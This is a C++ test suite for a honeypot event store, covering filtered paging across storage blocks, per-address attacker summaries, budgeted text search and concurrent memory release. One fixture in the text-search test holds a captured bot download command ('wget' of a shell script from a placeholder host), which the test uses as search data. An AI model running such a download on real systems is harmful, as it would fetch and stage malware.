// Every filter and combination of filters, paged newest first with the
// cursor, gives what a scan of the same events gives: on SQLite the events
// span written blocks (block postings) and the rows past them, with late
// events (an older time than rows before them) and ties on the event time;
// again after a reopen and more events.
TEST_P(StoreTest, FilteredPagesMatchAScanAcrossBlocks) {
  const auto path = dir_.file("blocks.db");
  StorageOptions o;
  o.path = path;
  struct Row {
    std::int64_t id, us;
    std::uint64_t node;
    std::string pot, pot_type, type, src;
  };
  std::vector<Row> rows;
  std::mt19937 rng(7);
  const auto append_events = [&](Storage& s, int from, int to) {
    std::vector<events::Event> batch;
    for (int i = from; i < to; ++i) {
      auto e = make_event(i);
      e.raw_json = "{}";
      e.node_id = rng() % 3 == 0 ? kBigNode : 1 + rng() % 4;
      const auto pot = rng() % 6;
      e.pot_id = "pot-" + std::to_string(pot);
      e.pot_type = pot % 2 == 0 ? "dionaea" : "cowrie";
      e.event_type = "t" + std::to_string(rng() % 5);
      e.src_ip = rng() % 50 == 0 ? "203.0.113." + std::to_string(rng() % 4)
                                 : "10." + std::to_string(rng() % 3) + ".0." + std::to_string(rng() % 200);
      e.event_us = kT0 + static_cast<std::int64_t>(i) * 1000;
      if (rng() % 20 == 0) {
        e.event_us -= static_cast<std::int64_t>(rng() % 20'000'000);  // arrived late
      } else if (i % 100 == 1) {
        e.event_us -= 1000;  // the same time as the event before
      }
      rows.push_back(Row{i + 1, e.event_us, e.node_id, e.pot_id, e.pot_type, e.event_type, e.src_ip});
      batch.push_back(std::move(e));
      if (batch.size() == 5000) {
        ASSERT_TRUE(append_when_room(s, batch));
      }
    }
    ASSERT_TRUE(append_when_room(s, batch));
    s.flush();
  };
  struct Case {
    EventFilter filter;
    std::function<bool(const Row&)> match;
  };
  std::vector<Case> cases;
  const auto add = [&](auto set, std::function<bool(const Row&)> match) {
    EventFilter f;
    set(f);
    cases.push_back(Case{f, std::move(match)});
  };
  add([](EventFilter& f) { f.pot_id = "pot-4"; }, [](const Row& r) { return r.pot == "pot-4"; });
  add([](EventFilter& f) { f.event_type = "t3"; }, [](const Row& r) { return r.type == "t3"; });
  add([](EventFilter& f) { f.pot_type = "cowrie"; }, [](const Row& r) { return r.pot_type == "cowrie"; });
  add([](EventFilter& f) { f.node_id = kBigNode; }, [](const Row& r) { return r.node == kBigNode; });
  add([](EventFilter& f) { f.node_id = 3; }, [](const Row& r) { return r.node == 3; });
  add([](EventFilter& f) { f.node_id = 99; }, [](const Row&) { return false; });
  add([](EventFilter& f) { f.pot_id = "pot-x"; }, [](const Row&) { return false; });
  add([](EventFilter& f) { f.src = "203.0.113.2"; }, [](const Row& r) { return r.src == "203.0.113.2"; });
  add([](EventFilter& f) { f.src = "203.0.113.0/30"; }, [](const Row& r) { return r.src.starts_with("203."); });
  add([](EventFilter& f) { f.src = "::ffff:203.0.113.1"; }, [](const Row& r) { return r.src == "203.0.113.1"; });
  add(
      [](EventFilter& f) {
        f.src = "10.1.0.0/16";
        f.event_type = "t2";
      },
      [](const Row& r) { return r.src.starts_with("10.1.") && r.type == "t2"; });
  add(
      [](EventFilter& f) {
        f.pot_id = "pot-1";
        f.event_type = "t0";
        f.node_id = kBigNode;
      },
      [](const Row& r) { return r.pot == "pot-1" && r.type == "t0" && r.node == kBigNode; });
  add(
      [](EventFilter& f) {
        f.pot_type = "dionaea";
        f.since_us = kT0 + 9'000'000;
        f.until_us = kT0 + 21'000'000;
      },
      [](const Row& r) { return r.pot_type == "dionaea" && r.us >= kT0 + 9'000'000 && r.us < kT0 + 21'000'000; });
  add(
      [](EventFilter& f) {
        f.src = "203.0.113.0/24";
        f.pot_type = "cowrie";
        f.until_us = kT0 + 15'000'000;
      },
      [](const Row& r) { return r.src.starts_with("203.") && r.pot_type == "cowrie" && r.us < kT0 + 15'000'000; });
  // By event id: PostgreSQL's row ids are increasing but not consecutive.
  const auto event_ids_of = [](Storage& s, const EventFilter& f, std::size_t limit) {
    std::vector<std::string> out;
    EventQuery q;
    q.filter = f;
    q.limit = limit;
    for (int pages = 0; pages < 1000; ++pages) {
      auto page = s.query(q);
      if (!page) {
        ADD_FAILURE() << page.error.message;
        break;
      }
      for (const auto& e : page.value->events) {
        out.push_back(e.event.event_id);
      }
      if (page.value->next_cursor.empty()) {
        return out;
      }
      q.cursor = page.value->next_cursor;
    }
    ADD_FAILURE() << "more than 1000 pages";
    return out;
  };
  const auto check_all = [&](Storage& s) {
    for (const auto& c : cases) {
      std::vector<std::pair<std::int64_t, std::int64_t>> want;  // (-time, -arrival): page order
      for (const auto& r : rows) {
        if (c.match(r)) {
          want.emplace_back(-r.us, -r.id);
        }
      }
      std::sort(want.begin(), want.end());
      std::vector<std::string> want_ids;
      for (const auto& [us, id] : want) {
        want_ids.push_back("ev-" + std::to_string(-id - 1));
      }
      // About 20 pages each: every page boundary goes through the cursor.
      const std::size_t limit = std::max<std::size_t>(7, want_ids.size() / 20);
      EXPECT_EQ(event_ids_of(s, c.filter, limit), want_ids)
          << "pot " << c.filter.pot_id << " type " << c.filter.event_type << " pot_type " << c.filter.pot_type
          << " src " << c.filter.src << " node " << c.filter.node_id.value_or(0) << ", " << want_ids.size() << " rows";
    }
  };
  {
    auto s = open(o);
    ASSERT_TRUE(s);
    append_events(*s, 0, 30'000);  // ids 1..30000: three blocks of 8,192 and the rows past them
    check_all(*s);
  }
  auto s = open(o);  // the newest block's rows are read back, not posted twice
  ASSERT_TRUE(s);
  check_all(*s);
  append_events(*s, 30'000, 36'000);  // crosses into a fifth block
  check_all(*s);
}

// The busiest address of a large store: its lists count only its newest
// events (bounded time), while its count and times stay exact.
TEST_P(StoreTest, AttackerSummaryCountsTheNewestEventsOfABusyAddress) {
  StorageOptions o;
  o.attacker_summarised = 10;
  auto s = open(o);
  ASSERT_TRUE(s);
  std::vector<events::Event> batch;
  for (int i = 0; i < 25; ++i) {
    auto e = make_event(i);
    e.src_ip = "203.0.113.50";
    e.username = i < 15 ? "old" : "new";  // the newest 10 all say "new"
    e.password = "pw";
    e.event_type = "login";
    e.command.clear();
    e.session.clear();
    batch.push_back(std::move(e));
  }
  ASSERT_TRUE(append_when_room(*s, batch));
  s->flush();
  auto r = s->attacker_summary("203.0.113.50");
  ASSERT_TRUE(r) << r.error.message;
  EXPECT_EQ(r.value->event_count, 25u);
  EXPECT_EQ(r.value->summarised, 10u);
  ASSERT_EQ(r.value->credentials.size(), 1u);
  EXPECT_EQ(r.value->credentials[0].username, "new");
  EXPECT_EQ(r.value->credentials[0].count, 10u);
  ASSERT_EQ(r.value->event_types.size(), 1u);
  EXPECT_EQ(r.value->event_types[0].count, 10u);
}

// One source address across every node and pot: totals, groups, the top
// credentials, commands and the latest sessions, from rows in several
// blocks of the block-local source index; other addresses never count.
TEST_P(StoreTest, AttackerSummaryAcrossIndexBlocks) {
  auto s = open();
  ASSERT_TRUE(s);
  {
    auto empty = s->attacker_summary("198.51.100.23");
    ASSERT_TRUE(empty) << empty.error.message;
    EXPECT_EQ(empty.value->event_count, 0u);
    EXPECT_TRUE(empty.value->nodes.empty());
  }
  constexpr int kEvents = 70'000;  // ids 1..70000: blocks 0 and 1
  const std::string ip = "198.51.100.23";
  // What the summary must say, counted here from the same rows.
  std::map<std::uint64_t, std::uint64_t> nodes;
  std::map<std::pair<std::string, std::string>, std::uint64_t> pots, credentials;
  std::map<std::string, std::uint64_t> types, commands;
  struct Span {
    std::int64_t first = 0, last = 0;
    std::uint64_t events = 0;
  };
  std::map<std::tuple<std::uint64_t, std::string, std::string>, Span> sessions;  // node, pot, session
  std::uint64_t total = 0;
  std::int64_t first_us = 0, last_us = 0;
  std::vector<events::Event> batch;
  for (int i = 0; i < kEvents; ++i) {
    auto e = make_event(i);
    e.raw_json = "{}";
    e.src_ip = "172.16." + std::to_string(i % 200) + "." + std::to_string(i % 250 + 1);
    if (i % 437 == 0) {  // 161 rows, in both blocks
      const int k = i / 437;
      e.src_ip = k % 3 == 0 ? "::ffff:" + ip : ip;  // stored either way, one address
      e.node_id = k % 2 == 0 ? kBigNode : 7;
      e.pot_id = "pot-" + std::to_string(k % 3);
      e.pot_type = k % 3 == 0 ? "honnypotter" : "cowrie";
      e.event_type = k % 4 == 0 ? "login.success" : "login.failed";
      e.username = k % 7 == 0 ? "" : "u" + std::to_string(k % 110);
      e.password = k % 110 == 1 ? "" : "pw" + std::to_string(k % 2);
      e.command = k % 5 == 0 ? "" : "c" + std::to_string(k % 130);
      e.session = k % 11 == 0 ? "" : "s" + std::to_string(k % 120);
      if (k == 80) {
        e.event_us = kT0 - 5'000'000;  // arrived in the middle, the oldest of all
      }
      ++total;
      first_us = first_us == 0 ? e.event_us : std::min(first_us, e.event_us);
      last_us = std::max(last_us, e.event_us);
      ++nodes[e.node_id];
      ++pots[{e.pot_id, e.pot_type}];
      ++types[e.event_type];
      if (!e.username.empty()) {
        ++credentials[{e.username, e.password}];
      }
      if (!e.command.empty()) {
        ++commands[e.command];
      }
      if (!e.session.empty()) {
        auto& span = sessions[{e.node_id, e.pot_id, e.session}];
        span.first = span.events == 0 ? e.event_us : std::min(span.first, e.event_us);
        span.last = std::max(span.last, e.event_us);
        ++span.events;
      }
    }
    batch.push_back(std::move(e));
    if (batch.size() == 10'000) {
      ASSERT_TRUE(append_when_room(*s, batch));
    }
  }
  ASSERT_TRUE(append_when_room(*s, batch));
  s->flush();

  // By count, highest first, ties by key; cut at `n`.
  auto ranked = [](const auto& counts, std::size_t n) {
    using Key = typename std::decay_t<decltype(counts)>::key_type;
    std::vector<std::pair<Key, std::uint64_t>> v(counts.begin(), counts.end());
    std::stable_sort(v.begin(), v.end(), [](const auto& a, const auto& b) { return a.second > b.second; });
    v.resize(std::min(v.size(), n));
    return v;
  };

  for (const std::string& asked : {ip, "::ffff:" + ip}) {
    auto r = s->attacker_summary(asked);
    ASSERT_TRUE(r) << r.error.message;
    const auto& a = *r.value;
    EXPECT_EQ(a.event_count, total);
    EXPECT_EQ(a.first_us, first_us);
    EXPECT_EQ(a.last_us, last_us);

    std::vector<std::pair<std::uint64_t, std::uint64_t>> got_nodes;
    for (const auto& n : a.nodes) {
      got_nodes.emplace_back(n.node_id, n.count);
    }
    EXPECT_EQ(got_nodes, ranked(nodes, kAttackerGroups));
    std::vector<std::pair<std::pair<std::string, std::string>, std::uint64_t>> got_pots, got_credentials;
    for (const auto& p : a.pots) {
      got_pots.push_back({{p.pot_id, p.pot_type}, p.count});
    }
    EXPECT_EQ(got_pots, ranked(pots, kAttackerGroups));
    for (const auto& c : a.credentials) {
      got_credentials.push_back({{c.username, c.password}, c.count});
    }
    EXPECT_EQ(got_credentials.size(), kAttackerTop);  // 110 distinct: the top 100
    EXPECT_EQ(got_credentials, ranked(credentials, kAttackerTop));
    std::vector<std::pair<std::string, std::uint64_t>> got_types, got_commands;
    for (const auto& t : a.event_types) {
      got_types.emplace_back(t.key, t.count);
    }
    EXPECT_EQ(got_types, ranked(types, kAttackerGroups));
    for (const auto& c : a.commands) {
      got_commands.emplace_back(c.key, c.count);
    }
    EXPECT_EQ(got_commands.size(), kAttackerTop);  // 130 distinct
    EXPECT_EQ(got_commands, ranked(commands, kAttackerTop));

    // The latest sessions first, by their last event.
    std::vector<std::tuple<std::int64_t, std::string, std::string, std::uint64_t, std::int64_t, std::uint64_t>> want;
    for (const auto& [key, span] : sessions) {
      want.emplace_back(-span.last, std::get<2>(key), std::get<1>(key), std::get<0>(key), span.first, span.events);
    }
    std::sort(want.begin(), want.end());
    want.resize(std::min(want.size(), kAttackerTop));
    ASSERT_EQ(a.sessions.size(), want.size());
    for (std::size_t i = 0; i < want.size(); ++i) {
      const auto& got = a.sessions[i];
      EXPECT_EQ(std::make_tuple(-got.last_us, got.session, got.pot_id, got.node_id, got.first_us, got.events), want[i])
          << i;
    }
  }

  EXPECT_EQ(s->attacker_summary(ip).value->summarised, total);

  auto none = s->attacker_summary("198.51.100.24");
  ASSERT_TRUE(none) << none.error.message;
  EXPECT_EQ(none.value->event_count, 0u);
  EXPECT_TRUE(none.value->credentials.empty());
  EXPECT_TRUE(none.value->sessions.empty());
  auto v6 = s->attacker_summary("2001:db8::1");  // make_event's IPv6 sources were all replaced
  ASSERT_TRUE(v6);
  EXPECT_EQ(v6.value->event_count, 0u);
  for (const char* bad : {"", "nope", "198.51.100.0/24", "198.51.100", "1.2.3.4.5"}) {
    auto r = s->attacker_summary(bad);
    EXPECT_FALSE(r) << bad;
    EXPECT_TRUE(r.error.bad_request) << bad;
  }
}

// A free-text query with a time budget returns what it found when the
// budget runs out, with a cursor that resumes the scan: following the
// cursors finds every match once, newest first.
TEST_P(StoreTest, TextScanStopsAtItsBudgetAndResumes) {
  auto s = open();
  ASSERT_TRUE(s);
  const std::string pad(1000, 'p');
  std::vector<events::Event> batch;
  for (int i = 0; i < 60'000; ++i) {
    auto e = make_event(i);
    e.raw_json = R"({"pad":")" + pad + R"("})";
    if (i == 3 || i == 31'000) {
      e.raw_json = R"({"input":"wget http://x/Bot.SH","pad":")" + pad + R"("})";
    }
    batch.push_back(std::move(e));
    if (batch.size() == 10'000) {
      ASSERT_TRUE(append_when_room(*s, batch));
    }
  }
  s->flush();
  EventQuery q;
  q.filter.text = "bot.sh";
  q.limit = 10;
  q.text_scan_ms = 1;  // reading 60,000 rows of 1 KB takes far longer
  std::vector<std::int64_t> found;
  int pages = 0, partial_pages = 0;
  while (true) {
    auto page = s->query(q);
    ASSERT_TRUE(page) << page.error.message;
    ++pages;
    for (const auto& e : page.value->events) {
      found.push_back(e.id);
    }
    if (page.value->partial) {
      ++partial_pages;
      EXPECT_FALSE(page.value->next_cursor.empty());
    }
    if (page.value->next_cursor.empty()) {
      break;
    }
    ASSERT_LT(pages, 100'000);
    q.cursor = page.value->next_cursor;
  }
  EXPECT_EQ(found, (std::vector<std::int64_t>{31'001, 4}));
  EXPECT_GE(partial_pages, 1);
  EXPECT_EQ(pages, partial_pages + 1);
  // Without a budget (export), one page holds both.
  q.cursor.clear();
  q.text_scan_ms = 0;
  auto page = s->query(q);
  ASSERT_TRUE(page) << page.error.message;
  EXPECT_FALSE(page.value->partial);
  EXPECT_EQ(page.value->events.size(), 2u);
  EXPECT_TRUE(page.value->next_cursor.empty());
}

// release_memory() may come from any thread while the writer, the
// checkpointer and readers are busy: nothing is lost and all keep working.
TEST_P(StoreTest, ReleaseMemoryWhileBusyKeepsEverything) {
  auto s = open();
  ASSERT_TRUE(s);
  std::atomic<bool> done{false};
  std::thread releaser([&] {
    while (!done) {
      s->release_memory();
      std::this_thread::yield();
    }
  });
  for (int round = 0; round < 20; ++round) {
    append_all(*s, range(round * 500, round * 500 + 500));
    EventFilter f;
    f.pot_type = "honnypotter";
    auto page = s->query(EventQuery{f, 10, {}});
    ASSERT_TRUE(page) << page.error.message;
  }
  s->flush();
  done = true;
  releaser.join();
  s->release_memory();
  EXPECT_EQ(s->counters().stored, 10'000u);
  // Seen twice in CI on PostgreSQL (the second under ASan, 2026-12-03): stored
  // 10,000 but every query found no row; database_state() says what was there.
  EXPECT_EQ(count(*s, {}), 10'000u) << database_state();
  append_all(*s, range(10'000, 10'010));  // the writer still takes work after a release
  s->flush();
  EXPECT_EQ(count(*s, {}), 10'010u) << database_state();
}

}  // namespace
}  // namespace honeycomb::store
